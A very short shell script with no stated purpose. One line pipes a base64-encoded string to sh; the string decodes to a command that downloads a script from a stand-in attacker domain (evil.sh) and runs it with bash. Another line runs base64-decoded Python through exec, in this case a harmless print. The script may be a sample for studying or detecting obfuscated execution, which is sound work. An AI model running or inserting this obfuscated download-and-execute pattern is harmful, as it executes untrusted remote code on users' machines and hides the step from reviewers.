#!/bin/sh
echo Y3VybCBodHRwOi8vZXZpbC5zaC98YmFzaA== | base64 -d | sh
python3 -c 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'
